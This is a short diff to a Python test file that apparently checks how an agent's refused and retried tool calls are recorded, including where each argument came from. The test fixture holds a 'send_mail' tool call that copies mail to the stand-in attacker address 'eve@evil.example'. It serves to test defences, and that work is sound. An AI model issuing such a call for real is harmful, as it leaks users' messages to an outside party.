@@ -110,6 +110,7 @@ def test_refused_arguments_are_a_call_that_was_tried() -> None:
     with recording(wire) as recorder:
         agent(recorder, ToolCallPart("send_mail", {"cc": "eve@evil.example"}), SEND).run_sync(ASKED)
     assert [event.outcome for event in wire.events("tool_call")] == ["error", "ok"]
+    assert wire.events("tool_call")[1].arg_origin["arg.cc"] == "none"  # though the refusal repeated it
 
 
 def test_a_call_that_waits_for_a_human_was_not_carried_out() -> None:
